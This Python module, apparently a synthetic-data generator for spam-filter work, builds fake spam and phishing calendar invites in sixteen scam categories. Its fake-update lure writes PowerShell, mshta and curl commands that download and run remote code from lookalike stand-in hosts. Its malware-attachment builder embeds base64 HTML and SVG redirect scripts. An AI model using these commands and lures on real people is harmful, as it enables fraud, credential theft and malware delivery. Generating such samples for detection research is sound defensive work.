"""Spam category builders."""
import datetime as dt
from .util import R, pick, chance, hexid, alnum, digits, ruuid, tz, UTC, html_escape, b64rand
from .people import LANG, person, free_addr, corp_addr, corp_domain, local_part, corp_local, recipient, STEMS, personal_rcpt
from .transport import route_for, free_kind, doc_ip
from .common import (Fill, fmt, mk_event, att, spam_link, lookalike_domain, phone, wa, tg, btc, money, pnr, slug,
                     start_time, uid_for)
from .spam_packs import SP

MARK = "\x00LINK\x00"

RETAIL = ["Ray-Ban", "UGG", "Pandora", "Dyson", "Nike", "Michael Kors", "Stanley", "Le Creuset", "Oakley", "Crocs",
          "Longchamp", "Moncler", "Apple", "Costco", "Lululemon"]
PRIZE = ["Costco", "Walmart", "Amazon", "Lidl", "Tesco", "Carrefour", "IKEA", "Shell", "Target", "Kaufland",
         "Albert Heijn", "Biedronka", "MediaMarkt", "Decathlon"]
PHISH = ["Microsoft", "DocuSign", "PayPal", "Adobe", "Dropbox", "SharePoint", "OneDrive", "Wells Fargo", "Chase",
         "HSBC", "Santander", "Netflix", "Apple ID", "Coinbase"]
COURIER = ["DHL", "UPS", "FedEx", "USPS", "Royal Mail", "Evri", "DPD", "Canada Post", "Australia Post"]


def nm_first(pair):
    return pair[0].split(" ")[0] if " " in pair[0] else pair[0]


def base(lang, arrival, client, frm, rcpt, tzid=None, method="REQUEST"):
    tzid = tzid or pick(LANG[lang]["tz"])
    m = dict(lang=lang, client=client, frm=frm, rcpt=rcpt, to=[rcpt], arrival=arrival, tzid=tzid,
             date=(arrival - dt.timedelta(seconds=R.randint(2, 25))).astimezone(tz(tzid)),
             cs=pick(LANG[lang]["cs"]), henc=pick(["B", "B", "Q"]), hcs="utf-8", method=method)
    if client == "spamtool" and m["cs"] != "utf-8" and chance(0.6):
        m["hcs"] = m["cs"]
    return m


def fill(lang, rcpt, frm, **kw):
    F = Fill(first=nm_first(rcpt), name=rcpt[0], email=rcpt[1], sender=frm[0] or frm[1].split("@")[0],
             org=pick(STEMS).replace("-", " ").title(), brand=pick(PRIZE), amt=money(lang, 300, 9000), link=MARK,
             phone=phone(lang, True), code=pick([pnr(), digits(8), "%s-%s" % (alnum(3).upper(), digits(6))]),
             wallet=btc(), tg=tg(), wa=wa(lang), line="@" + alnum(7).lower(), date="", ref="", pw="",
             cmd="", q=str(R.randint(1, 4)))
    F.update(kw)
    return F


def pack(cat, lang, i):
    P = SP[cat][lang]
    return P[i % len(P)]


def place(ev, desc, link, mode, label="Open"):
    """Put the payload link somewhere in the event."""
    if mode == "desc" or not link:
        ev["desc"] = desc.replace(MARK, link or "")
        return
    clean = "\n".join(l for l in desc.split("\n") if MARK not in l).rstrip()
    ev["desc"] = clean
    if mode == "altdesc":
        ev["alt_html"] = ('<html><body><p>%s</p><p><a href="%s" style="background:#0067b8;color:#fff;padding:10px 18px;'
                          'text-decoration:none">%s</a></p></body></html>' % (
                              html_escape(clean).replace("\n", "<br>"), html_escape(link), label))
    elif mode == "location":
        ev["location"] = link
    elif mode == "url":
        ev["url"] = link
    elif mode == "attach":
        ev["attach"] = list(ev.get("attach", [])) + [(pick([";FMTTYPE=text/html", ";FMTTYPE=application/pdf", "",
                                                             ";VALUE=URI"]), link)]
    elif mode == "conference":
        ev["conference"] = [(pick(["Join", "Join meeting", "Open", "View"]), link)]
        ev["x"] = list(ev.get("x", [])) + ["X-GOOGLE-CONFERENCE:" + link] if chance(0.3) else list(ev.get("x", []))
    elif mode == "body":
        ev["_body_link"] = link


def crowd(n, lang_mix=("en",), near=None):
    """Attendee list of unrelated people (for mass invitations)."""
    out = []
    for _ in range(n):
        lg = pick(lang_mix)
        if near and chance(0.5):
            nm, lat = person(lg)
            a = (nm, local_part(lat) + "@" + near)
        else:
            a = free_addr(lg) if chance(0.7) else corp_addr(lg)
        out.append(att(a, name=chance(0.3)))
    return out


def sender_for(client, lang, kind="free", brand=None, rcpt=None):
    """Return (from pair, route kind, extra kw)."""
    if kind == "free":
        if client == "icloud":
            nm, lat = person(lang)
            return (nm, local_part(lat) + "@" + pick(["icloud.com", "icloud.com", "me.com"])), "icloud", {}
        if client == "google":
            nm, lat = person(lang)
            return (nm, local_part(lat) + "@gmail.com"), "google-cal", {}
        f = free_addr(lang)
        if client == "outlook":
            nm, lat = person(lang)
            f = (nm, local_part(lat) + "@" + pick(["outlook.com", "hotmail.com"]))
            return f, "outlookcom", {}
        if client == "yahoo":
            nm, lat = person(lang)
            return (nm, local_part(lat) + "@yahoo.com"), "yahoo", {}
        return f, free_kind(f[1]), {}
    if kind == "compromised":
        dom = corp_domain(lang)
        nm, lat = person(lang)
        f = (nm, corp_local(lat) + "@" + dom)
        if client in ("outlook", "outlook-desktop"):
            return f, "m365", {}
        if client == "google":
            return f, "google-cal", {}
        return f, "own", {}
    if kind == "lookalike":
        dom = lookalike_domain(brand or "secure")
        return (brand or "", pick(["no-reply", "noreply", "support", "service", "info", "notification", "admin",
                                   "billing", "security"]) + "@" + dom), "vps", dict(signed=True, spf="pass")
    if kind == "spoof":
        dom = rcpt[1].split("@")[1] if rcpt and chance(0.4) else pick(["microsoft.com", "paypal.com", "docusign.net",
                                                                         "dhl.com", "apple.com", "amazon.com"])
        return (brand or "", pick(["no-reply", "security", "support", "service"]) + "@" + dom), "spoof", {}
    if kind == "vps":
        dom = pick(STEMS) + digits(2) + "." + pick(["top", "xyz", "online", "site", "shop", "info", "click", "biz"])
        nm, lat = person(lang)
        return (brand or nm, pick(["info", "mail", "news", "hello", local_part(lat)]) + "@" + dom), "vps", dict(
            signed=chance(0.5))
    raise ValueError(kind)


def finalize(m, ev, route_kind, rkw, events=None):
    m["events"] = events or [ev]
    if m["client"] == "spamtool":
        k = m.setdefault("ics_kw", {})
        q = R.random()
        if q < 0.2:
            k["lf"] = True                      # bare LF inside a base64 text/calendar part
        elif q < 0.35:
            k["method_line"] = False            # METHOD missing, only in the MIME parameter
        elif q < 0.5:
            m["ct_method"] = pick(["PUBLISH", "REQUEST"]) if m.get("method") else "REQUEST"
            m["method"] = "PUBLISH" if m["ct_method"] == "REQUEST" else "REQUEST"
        if chance(0.15):
            ev["kind"] = "VTODO"
            ev["due"] = ev.get("end")
            ev["end"] = None
        if chance(0.1):
            ev2 = dict(ev)
            ev2["uid"] = uid_for("spamtool")
            ev2["start"] = ev["start"] + dt.timedelta(days=1)
            ev2["end"] = ev2["start"] + dt.timedelta(hours=1) if ev.get("end") else None
            m["events"] = [ev, type(ev)(**ev2)]
    from .transport import route_for as rf
    route = rf(route_kind, m["frm"][1], m["arrival"], m["rcpt"][1], **rkw)
    if m.get("host_dom") is None:
        m["host_dom"] = m["frm"][1].split("@")[1]
    return m, route


# ------------------------------------------------------------------------------------------------ categories
def build(cat, i, lang, arrival):
    fn = globals()["c_" + cat.replace("-", "_")]
    return fn(i, lang, arrival)


def std(cat, i, lang, arrival, client, skind, brand=None, modes=("desc",), F_extra=None, linkkind=None,
        crowdn=0, days=(0, 5), dur=60, rc=None, **evkw):
    rc = rc or (recipient(lang) if chance(0.6) else personal_rcpt(lang))
    frm, rk, rkw = sender_for(client, lang, skind, brand, rc)
    m = base(lang, arrival, client, frm, rc)
    P = pack(cat, lang, i)
    F = fill(lang, rc, frm, **(F_extra or {}))
    if skind == "compromised" and "org" not in (F_extra or {}):
        F["org"] = frm[1].split("@")[1].split(".")[0].replace("-", " ").title()
    if "brand" not in (F_extra or {}) and brand:
        F["brand"] = brand
    link = spam_link(brand or "", linkkind, rc[1])
    atts = [att(rc)] + (crowd(crowdn, (lang, "en"), rc[1].split("@")[1]) if crowdn else [])
    if client == "google":
        atts.append(att(frm, "ACCEPTED"))
    ev = mk_event(client, arrival, m["tzid"], frm, atts, fmt(P["s"], F), None, fmt(P.get("loc"), F), days=days,
                  dur=dur, **evkw)
    place(ev, fmt(P["d"], F), link, pick(modes))
    if P.get("subj"):
        m["subject"] = fmt(P["subj"], F)
    return m, ev, rk, rkw, F, link


# 0
def c_retail_sale_wave(i, lang, arrival):
    brand = pick(RETAIL)
    client = pick(["icloud", "icloud", "google", "apple-mail", "spamtool"])
    m, ev, rk, rkw, F, link = std("retail-sale-wave", i, lang, arrival, client, "free" if client != "spamtool" else "vps",
                                  brand, ("desc", "url", "location", "desc", "altdesc"), {"brand": brand},
                                  pick(["lookalike", "shortener", "hosting"]), crowdn=R.choice([0, 8, 40, 120]),
                                  days=(0, 3))
    if chance(0.3):
        ev["rrule"] = "FREQ=DAILY;COUNT=%d" % R.randint(5, 30)
    if client == "spamtool":
        m["variant"] = pick(["phpmailer", "node", "python"])
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("%s sale wave sent from %s" % (brand, client),)


# 1
def c_prize_survey_lure(i, lang, arrival):
    brand = pick(PRIZE)
    client = pick(["google", "outlook", "spamtool", "thunderbird", "icloud"])
    skind = pick(["free", "compromised"]) if client != "spamtool" else pick(["vps", "lookalike"])
    d = arrival.astimezone(UTC) + dt.timedelta(days=2)
    m, ev, rk, rkw, F, link = std("prize-survey-lure", i, lang, arrival, client, skind, brand,
                                  ("desc", "altdesc", "url", "attach"),
                                  {"brand": brand, "date": d.strftime("%d.%m.%Y")}, days=(0, 2), dur=30)
    if client == "spamtool":
        m["body"] = ev["desc"]
        m["variant"] = pick(["phpmailer", "single", "dotnet"])
    return finalize(m, ev, rk, rkw) + ("%s reward/survey lure (%s sender)" % (brand, skind),)


# 2
def c_crypto_investment(i, lang, arrival):
    client = pick(["google", "spamtool", "zoom", "outlook", "spamtool"])
    skind = "free" if client in ("google", "outlook") else pick(["lookalike", "vps"])
    brand = pick(["Binance", "Coinbase", "Kraken", "Bybit", "QuantumAI", "Bitget", "Trust Wallet", "Immediate Edge"])
    rc = recipient(lang)
    if client == "zoom":
        # look-alike Zoom-style webinar mail from own domain
        dom = lookalike_domain(brand)
        frm = ("%s Webinars" % brand, "no-reply@" + dom)
        m = base(lang, arrival, "zoom", frm, rc)
        P = pack("crypto-investment", lang, i)
        F = fill(lang, rc, frm, brand=brand)
        link = spam_link(brand, "lookalike")
        ev = mk_event("zoom", arrival, m["tzid"], frm, [], fmt(P["s"], F), None, link, days=(1, 4))
        place(ev, fmt(P["d"], F), link, "desc")
        m["method"] = "PUBLISH"
        m["body"] = ev["desc"] + "\n\nJoin URL: " + link
        return finalize(m, ev, "vps", dict(signed=True, spf="pass")) + ("crypto 'webinar' imitating Zoom mail",)
    m, ev, rk, rkw, F, link = std("crypto-investment", i, lang, arrival, client, skind, brand,
                                  ("desc", "conference", "url", "altdesc"), {"brand": brand, "amt": money("en", 20000, 90000)})
    if client == "spamtool":
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("crypto/investment fraud, %s theme" % brand,)


# 3
def c_dating_romance(i, lang, arrival):
    client = pick(["google", "icloud", "spamtool", "google", "yahoo"])
    skind = "free" if client != "spamtool" else "vps"
    m, ev, rk, rkw, F, link = std("dating-romance", i, lang, arrival, client, skind, None,
                                  ("desc", "location", "url"), linkkind=pick(["lookalike", "shortener", "hosting"]),
                                  days=(0, 1), hours=(19, 20, 21, 22))
    if client == "spamtool":
        m["body"] = ev["desc"]
        m["variant"] = pick(["single", "python", "node"])
    return finalize(m, ev, rk, rkw) + ("dating lure from %s" % ("free-mail account" if skind == "free" else "VPS"),)


# 4
def c_sextortion(i, lang, arrival):
    rc = recipient(lang)
    mode = pick(["self", "free", "vps"])
    if mode == "self":
        frm = (rc[0] if chance(0.5) else "", rc[1])
        rk, rkw = "spoof", dict(env="%s@%s" % (alnum(8).lower(), pick(["mail-relay.example", "bulk-smtp.example"])),
                                policy=pick(["NONE", "QUARANTINE"]))
        client = pick(["spamtool", "spamtool", "outlook-desktop"])
    elif mode == "free":
        client = "spamtool"
        frm = free_addr(lang)
        rk, rkw = free_kind(frm[1]), {}
        if rk == "free":
            rk = "own"
    else:
        client = "spamtool"
        frm, rk, rkw = sender_for(client, lang, "vps")
    m = base(lang, arrival, client, frm, rc)
    P = pack("sextortion", lang, i)
    F = fill(lang, rc, frm, pw=pick(["hunter22", "Summer2019!", "qwerty123", rc[1].split("@")[0] + "1984",
                                     "liverpool07", "P@ssw0rd"]), wallet=btc())
    ev = mk_event(client, arrival, m["tzid"], frm, [att(rc)], fmt(P["s"], F), fmt(P["d"], F), None, days=(2, 2),
                  dur=pick([15, 30, 60]))
    if chance(0.5):
        ev["alarms"] = [dict(trigger="-PT%dH" % h, desc=ev["summary"]) for h in (24, 12, 6, 1)]
    m["body"] = ev["desc"]
    if client == "outlook-desktop":
        m["client"] = "outlook-desktop"
    return finalize(m, ev, rk, rkw) + ("sextortion with BTC wallet (%s sender)" % mode,)


# 5
def c_fee_scam(i, lang, arrival):
    brand = {"nl": "PostNL", "pl": "Poczta Polska", "ru": "Почта России", "el": "ΕΛΤΑ", "ar": "Aramex"}.get(lang, pick(COURIER))
    client = pick(["spamtool", "spamtool", "google", "icloud", "outlook"])
    skind = pick(["lookalike", "spoof", "vps"]) if client == "spamtool" else "free"
    d = (arrival + dt.timedelta(days=3)).strftime("%d/%m/%Y")
    m, ev, rk, rkw, F, link = std("fee-scam", i, lang, arrival, client, skind, brand,
                                  ("desc", "url", "location", "altdesc", "attach"),
                                  {"brand": brand, "date": d, "amt": money(lang, 1, 4),
                                   "code": pick(["JD0140%s" % digits(12), "RR%sGB" % digits(9), "1Z%s" % alnum(16).upper(),
                                                 "LV%sCN" % digits(9)])}, days=(0, 2), dur=30)
    if client == "spamtool":
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("%s fee/toll/tax scam (%s)" % (brand, skind),)


# 6
def c_brand_phish(i, lang, arrival):
    brand = {"pl": "PKO BP", "ru": "Госуслуги", "el": "Microsoft 365", "ar": "Bank", "he": "Israel Post"}.get(
        lang, ["Microsoft 365", "DocuSign", "PayPal", "Adobe", "Microsoft 365"][i % 5])
    client = pick(["outlook", "spamtool", "google", "spamtool", "outlook-desktop"])
    skind = {"outlook": pick(["compromised", "lookalike"]), "outlook-desktop": "compromised",
             "google": pick(["free", "compromised"])}.get(client, pick(["lookalike", "spoof"]))
    if client == "outlook" and skind == "lookalike":
        client = "spamtool"
    rc = recipient(lang)
    m, ev, rk, rkw, F, link = std("brand-phish", i, lang, arrival, client, skind, brand,
                                  ("desc", "altdesc", "attach", "url", "location", "conference"),
                                  {"ref": pick(["Contract_%s.pdf" % digits(4), "Invoice %s" % digits(6),
                                                "Payroll adjustment %d" % arrival.year, "NDA – signature required"]),
                                   "date": (arrival + dt.timedelta(days=2)).strftime("%d.%m.%Y")},
                                  linkkind=pick(["lookalike", "hosting", "lookalike"]), rc=rc, days=(0, 2), dur=30)
    if client in ("outlook", "outlook-desktop") and chance(0.5):
        m["teams"] = True
        m["teams_url"] = link
    if client == "spamtool":
        m["body"] = ev["desc"]
        m["variant"] = pick(["fakeoutlook", "phpmailer", "dotnet", "go"])
    return finalize(m, ev, rk, rkw) + ("%s credential phish (%s sender)" % (brand, skind),)


# 7
def c_callback_scam(i, lang, arrival):
    client = pick(["google", "google", "spamtool", "outlook", "icloud"])
    skind = "free" if client != "spamtool" else pick(["vps", "spoof"])
    brand = pick(["Norton", "McAfee", "Geek Squad", "PayPal", "Microsoft", "Kaspersky"])
    m, ev, rk, rkw, F, link = std("callback-scam", i, lang, arrival, client, skind, brand, ("desc",),
                                  {"phone": phone(lang, True), "code": "INV-" + digits(8)}, days=(0, 1), dur=15)
    ev["desc"] = ev["desc"].replace(MARK, "")
    if chance(0.4):
        ev["location"] = F["phone"]
    if client == "spamtool":
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("%s renewal/invoice callback scam, phone only" % brand,)


# 8
def c_fake_update_lure(i, lang, arrival):
    client = pick(["outlook", "google", "spamtool", "outlook-desktop", "spamtool"])
    skind = {"outlook": "compromised", "outlook-desktop": "compromised", "google": pick(["free", "compromised"])}.get(
        client, pick(["lookalike", "vps"]))
    brand = pick(["Teams", "Zoom", "Webex", "Chrome"])
    cmd = pick(['powershell -w h -c "iwr https://%s/v.ps1 -UseBasicParsing | iex"',
                'mshta https://%s/verify.hta', 'cmd /c curl -s https://%s/c | powershell -',
                'powershell -nop -enc %s']) 
    cdom = lookalike_domain(pick(["captcha", "verify", "cloudflare", "check"]))
    cmd = cmd % (cdom if "%s/" in cmd else b64rand(40))
    m, ev, rk, rkw, F, link = std("fake-update-lure", i, lang, arrival, client, skind, brand,
                                  ("desc", "attach", "url", "altdesc"), {"cmd": cmd},
                                  linkkind=pick(["lookalike", "hosting"]), days=(0, 2), dur=30)
    if "{cmd}" in pack("fake-update-lure", lang, i)["d"] and chance(0.5):
        ev["location"] = pick(["https://", ""]) + lookalike_domain("meet") + "/join/" + digits(9)
    if client == "spamtool":
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("fake %s update / paste-command lure" % brand,)


# 9
def c_bec_fraud(i, lang, arrival):
    rc = recipient(lang)
    rdom = rc[1].split("@")[1]
    boss, lat = person(lang)
    mode = pick(["free", "lookalike", "free", "lookalike"])
    if mode == "free":
        client = pick(["google", "apple-mail", "outlook"])
        if client == "google":
            frm = (boss, local_part(lat) + pick([".ceo", ".office", ""]) + "@gmail.com")
            rk = "google-cal"
        elif client == "apple-mail":
            frm = (boss, local_part(lat) + "@icloud.com")
            rk = "icloud"
        else:
            frm = (boss, local_part(lat) + "@outlook.com")
            rk = "outlookcom"
        rkw = {}
    else:
        stem = rdom.split(".")[0]
        look = pick([stem.replace("e", "3", 1) if "e" in stem else stem + "s", stem + "-" + pick(["inc", "group", "corp"]),
                     stem.replace("m", "rn", 1) if "m" in stem else stem.replace("i", "l", 1) if "i" in stem else stem + "1",
                     stem + "-" + pick(["mail", "hq", "co"])])
        frm = (boss, corp_local(lat) + "@" + look + "." + pick(["com", "net", "co", "org"]))
        client = pick(["outlook", "outlook-desktop", "thunderbird"])
        rk, rkw = ("m365", {}) if client == "outlook" else ("vps", dict(signed=True, spf="pass"))
    m = base(lang, arrival, client, frm, rc)
    P = pack("bec-fraud", lang, i)
    F = fill(lang, rc, frm, org=rdom.split(".")[0].replace("-", " ").title(), amt=money(lang, 18000, 95000))
    ev = mk_event(client, arrival, m["tzid"], frm, [att(rc)] + ([att(frm, "ACCEPTED")] if client == "google" else []),
                  fmt(P["s"], F), fmt(P["d"], F), None, days=(0, 1), dur=pick([15, 30]))
    if client in ("outlook", "outlook-desktop", "thunderbird", "apple-mail"):
        m["body"] = ev["desc"]
    if chance(0.4) and client != "google":
        m["reply_to"] = (boss, local_part(lat) + digits(2) + "@" + pick(["gmail.com", "outlook.com", "proton.me"]))
        m["xh"] = [("Reply-To", "%s <%s>" % (m["reply_to"][0], m["reply_to"][1])) if all(ord(c) < 128 for c in boss)
                   else ("Reply-To", m["reply_to"][1])]
    return finalize(m, ev, rk, rkw) + ("BEC: %s via %s" % (ev["summary"][:40], mode),)


# 10
def c_advance_fee(i, lang, arrival):
    client = pick(["google", "yahoo", "outlook", "spamtool", "google"])
    m, ev, rk, rkw, F, link = std("advance-fee", i, lang, arrival, client, "free" if client != "spamtool" else "vps",
                                  None, ("desc",), days=(1, 7))
    ev["desc"] = ev["desc"].replace(MARK, "")
    rt = free_addr("en")
    m["xh"] = [("Reply-To", rt[1])] if client != "google" else []
    if client == "spamtool":
        m["body"] = ev["desc"]
        m["undisclosed"] = chance(0.5)
    return finalize(m, ev, rk, rkw) + ("advance-fee fraud (%s)" % ev["summary"][:40],)


# 11
def c_task_job_scam(i, lang, arrival):
    client = pick(["google", "outlook", "spamtool", "google", "icloud"])
    m, ev, rk, rkw, F, link = std("task-job-scam", i, lang, arrival, client,
                                  "free" if client != "spamtool" else pick(["lookalike", "vps"]),
                                  pick(["StaffLink", "HireRight", "TalentBridge", "Adecco", "Randstad"]),
                                  ("desc", "conference"), {"wa": wa(), "tg": tg()}, days=(0, 3), dur=30)
    if client == "spamtool":
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("task/job scam moving victim to messenger",)


# 12
def c_compromised_docshare(i, lang, arrival):
    client = pick(["outlook", "outlook", "google", "outlook-desktop", "zimbra"])
    rc = recipient(lang)
    m, ev, rk, rkw, F, link = std("compromised-docshare", i, lang, arrival, client, "compromised", None,
                                  ("desc", "altdesc", "attach", "url", "desc"),
                                  {"ref": pick(["Q%d Statement.pdf" % R.randint(1, 4), "Agreement_v2.docx",
                                                "Payment_Advice_%s.pdf" % digits(5), "Proposal.pdf", "Drawings.zip"])},
                                  linkkind=pick(["hosting", "hosting", "lookalike"]), crowdn=R.choice([0, 5, 25, 60]),
                                  rc=rc, days=(0, 2))
    if client in ("outlook", "outlook-desktop", "zimbra"):
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("document-share lure from compromised partner mailbox",)


# 13
def c_nagging_payload(i, lang, arrival):
    client = pick(["spamtool", "spamtool", "google", "icloud"])
    skind = "free" if client != "spamtool" else pick(["vps", "lookalike"])
    m, ev, rk, rkw, F, link = std("nagging-payload", i, lang, arrival, client, skind, pick(["bonus", "prize", "shield"]),
                                  ("desc", "url", "location", "attach"), days=(0, 1), dur=pick([5, 15, 60]))
    style = pick(["daily", "hourly", "far", "alarms", "daily"])
    if style == "daily":
        ev["rrule"] = pick(["FREQ=DAILY", "FREQ=DAILY;INTERVAL=1", "FREQ=DAILY;UNTIL=20991231T235959Z"])
    elif style == "hourly":
        ev["rrule"] = pick(["FREQ=HOURLY;INTERVAL=2", "FREQ=HOURLY", "FREQ=MINUTELY;INTERVAL=30"])
    elif style == "far":
        s = dt.datetime(pick([2049, 2099, 2199, 2030]), R.randint(1, 12), R.randint(1, 28), 9, 0, tzinfo=UTC)
        ev["start"], ev["end"] = s, s + dt.timedelta(hours=1)
        ev["rrule"] = "FREQ=YEARLY" if chance(0.5) else None
    n = R.randint(8, 40) if style in ("alarms", "daily") else R.randint(2, 10)
    ev["alarms"] = [dict(trigger="-PT%dM" % (k * pick([1, 5, 10])), desc=ev["summary"],
                         action=pick(["DISPLAY", "DISPLAY", "AUDIO"])) for k in range(n)]
    if chance(0.3):
        ev["alarms"][0]["repeat"] = 99
        ev["alarms"][0]["duration"] = "PT1M"
    ev["allday"] = style == "far" and chance(0.3)
    if client == "spamtool":
        m["body"] = ev["desc"]
        m["ics_kw"] = dict(timestyle="utc")
    return finalize(m, ev, rk, rkw) + ("nagging payload: %s, %d alarms" % (style, n),)


# 14
def c_mass_invite(i, lang, arrival):
    client = pick(["google", "google", "spamtool", "icloud", "outlook"])
    skind = "free" if client != "spamtool" else "vps"
    n = R.randint(180, 700)
    m, ev, rk, rkw, F, link = std("mass-invite", i, lang, arrival, client, skind, pick(["pharma", "loans", "seo", "casino"]),
                                  ("desc", "location", "url"), crowdn=n, linkkind=pick(["lookalike", "shortener"]))
    rc = m["rcpt"]
    if chance(0.7):
        m["to"] = [(a.get("cn") or "", a["addr"]) for a in ev["attendees"][:R.randint(20, 80)]]
        if rc not in m["to"]:
            m["to"].insert(R.randint(0, len(m["to"])), rc)
    if client == "spamtool":
        m["body"] = ev["desc"]
        m["undisclosed"] = True
    return finalize(m, ev, rk, rkw) + ("advert invitation with %d unrelated attendees" % n,)


# 15
def c_malware_attachment(i, lang, arrival):
    client = pick(["outlook", "spamtool", "thunderbird", "spamtool", "google"])
    skind = {"outlook": "compromised", "thunderbird": "compromised", "google": "compromised"}.get(
        client, pick(["lookalike", "vps", "spoof"]))
    m, ev, rk, rkw, F, link = std("malware-attachment", i, lang, arrival, client, skind, pick(["voicemail", "docs", "scan"]),
                                  ("desc",), {"phone": phone(lang), "date": arrival.strftime("%Y-%m-%d")}, days=(0, 1),
                                  dur=15)
    ev["desc"] = ev["desc"].replace(MARK, "")
    kind = pick(["inline-html", "inline-svg", "uri-zip", "uri-iso", "uri-html"])
    host = lookalike_domain(pick(["files", "docs", "cdn", "share"]))
    if kind == "inline-html":
        html = ('<html><head><meta charset="utf-8"><title>Loading document...</title></head><body><script>'
                'var u=atob("%s");window.location.href=u+"#"+"%s";</script></body></html>' % (
                    __import__("base64").b64encode(("https://%s/o/" % host).encode()).decode(), m["rcpt"][1]))
        data = __import__("base64").b64encode(html.encode()).decode()
        fname = pick(["Remittance_%s.html" % digits(5), "Voice_Message_%s.htm" % digits(4), "Invoice.shtml"])
        ev["attach"] = [(";ENCODING=BASE64;VALUE=BINARY;FMTTYPE=text/html;X-FILENAME=%s" % fname, data)]
    elif kind == "inline-svg":
        svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400"><script type="text/javascript">'
               '<![CDATA[window.location="https://%s/p?e=%s"]]></script></svg>' % (host, m["rcpt"][1]))
        data = __import__("base64").b64encode(svg.encode()).decode()
        ev["attach"] = [(";ENCODING=BASE64;VALUE=BINARY;FMTTYPE=image/svg+xml;X-FILENAME=VM_%s.svg" % digits(6), data)]
    else:
        ext = {"uri-zip": ".zip", "uri-iso": ".iso", "uri-html": ".html"}[kind]
        ev["attach"] = [(";FMTTYPE=application/octet-stream" if ext != ".html" else ";FMTTYPE=text/html",
                         "https://%s/dl/%s%s" % (host, pick(["Invoice_", "Scan_", "PO_", "Policy_"]) + digits(6), ext))]
    if client == "spamtool":
        m["body"] = ev["desc"]
    if client in ("outlook", "thunderbird"):
        m["body"] = ev["desc"]
    return finalize(m, ev, rk, rkw) + ("payload in ATTACH (%s)" % kind,)


CATS = ["retail-sale-wave", "prize-survey-lure", "crypto-investment", "dating-romance", "sextortion", "fee-scam",
        "brand-phish", "callback-scam", "fake-update-lure", "bec-fraud", "advance-fee", "task-job-scam",
        "compromised-docshare", "nagging-payload", "mass-invite", "malware-attachment"]
